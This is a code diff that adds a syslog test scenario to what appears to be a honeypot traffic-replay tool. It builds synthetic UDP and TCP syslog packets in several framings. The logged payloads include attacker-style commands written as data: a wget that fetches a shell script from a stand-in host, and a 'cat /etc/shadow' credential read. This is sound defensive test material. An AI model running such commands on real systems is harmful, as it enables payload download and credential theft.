@@ -550,6 +550,29 @@ def sessions(n, arg):
 
 
 @scenario
+def syslog(n, arg):
+    """Syslog sent by honeypot 10.0.0.5 to an outside collector
+    192.0.2.50:514.  UDP: a bash PROMPT_COMMAND line through logger
+    ("root [4242]: wget ... [0]"), an RFC 5424 message with structured
+    data and a BOM; UDP from outside to the honeypot's port 514 (not the
+    honeypot's syslog: ignored).  TCP (RFC 6587) in 20-byte segments, so
+    frames straddle segments: an octet-counted bash SYSLOG_HISTORY line,
+    then an LF-framed sshd line.  Test: tests/replay/89-syslog.sh."""
+    col = "192.0.2.50"
+    n.udp(T0, HP, col, 40514, 514,
+          b"<13>Nov 26 08:00:00 hp root: root [4242]: wget http://203.0.113.7/x.sh [0]")
+    n.udp(T0 + 10 * MS, HP, col, 40514, 514,
+          b'<165>1 2026-11-26T08:00:00.010Z hp app 7 ID47 [ex@32473 k="v\\"q"] '
+          b"\xef\xbb\xbfhello")
+    n.udp(T0 + 20 * MS, "198.51.100.9", HP, 40000, 514, b"<13>spoofed: not ours")
+    hist = b"<86>1 2026-11-26T08:00:01Z hp bash 99 - - HISTORY: PID=99 UID=0 cat /etc/shadow"
+    n.conversation(T0 + SEC, HP, col, 40515, 514, [
+        ("c", str(len(hist)).encode() + b" " + hist +
+              b"<38>Nov 26 08:00:02 hp sshd[7]: Accepted password for root\n")],
+        mss=20)
+
+
+@scenario
 def tcp_limit(n, arg):
     """5 outbound TCP connections from 10.0.0.5, 10 s apart, to 198.51.100.1..5
     ports 8001..8005, each complete (SYN .. FIN).  With tcp = 3/hour: 3
